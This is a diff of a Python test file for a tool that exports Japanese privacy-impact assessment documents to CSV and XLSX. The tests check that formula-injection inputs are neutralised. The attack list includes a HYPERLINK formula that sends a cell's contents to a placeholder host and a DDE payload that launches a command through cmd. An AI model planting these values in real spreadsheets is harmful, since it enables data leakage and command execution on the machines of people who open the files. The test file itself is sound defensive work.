@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import csv
 import io
-
 from pathlib import Path
 
 import openpyxl
@@ -23,7 +22,7 @@ from pia.render.xlsx import change_rows_xlsx_bytes, xlsx_bytes
 
 EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
 ATTACKS = [
-    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳細\")",
+    '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
     "=cmd|' /C calc'!A0",
     "+81-96-328-2111",
     "-2+3+cmd|' /C calc'!A0",
@@ -31,7 +30,7 @@ ATTACKS = [
     "\t=1+1",
     "\r=1+1",
     "\0=1+1",
-    "＝HYPERLINK(\"x\")",
+    '＝HYPERLINK("x")',
     "  =1+1",
     "　＋1",
 ]
@@ -51,10 +50,10 @@ def test_ordinary_text_is_left_alone(text):
 
 
 def test_csv_text_marks_every_formula_field_and_keeps_the_rest():
-    text = csv_text([["氏名", "住所", "意見"], ["=HYPERLINK(\"x\",\"y\")", "=cmd|' /C calc'!A0", "ふつうの, 意見"]])
+    text = csv_text([["氏名", "住所", "意見"], ['=HYPERLINK("x","y")', "=cmd|' /C calc'!A0", "ふつうの, 意見"]])
     assert text.endswith("\r\n")
     rows = list(csv.reader(io.StringIO(text)))
-    assert rows == [["氏名", "住所", "意見"], ["'=HYPERLINK(\"x\",\"y\")", "'=cmd|' /C calc'!A0", "ふつうの, 意見"]]
+    assert rows == [["氏名", "住所", "意見"], ['\'=HYPERLINK("x","y")', "'=cmd|' /C calc'!A0", "ふつうの, 意見"]]
 
 
 def _cells(data: bytes):
@@ -96,7 +95,7 @@ def test_the_change_table_xlsx_is_inert():
 def test_the_assessment_xlsx_is_inert():
     """Values of the 評価書 (cover, Ⅱ rows, tables) written by people, in the core's XLSX."""
     document = load_document(EXAMPLES / "jumin-kihon-daicho-v2.yaml")
-    document.values["cover.name"] = "=HYPERLINK(\"x\")"
+    document.values["cover.name"] = '=HYPERLINK("x")'
     document.values["cover.tokki"] = "+81-96-328-2111"
     document.values["bessoe1.body"] = "@SUM(1)"
-    _assert_inert(xlsx_bytes(print_model(document)), ["=HYPERLINK(\"x\")", "+81-96-328-2111", "@SUM(1)"])
+    _assert_inert(xlsx_bytes(print_model(document)), ['=HYPERLINK("x")', "+81-96-328-2111", "@SUM(1)"])
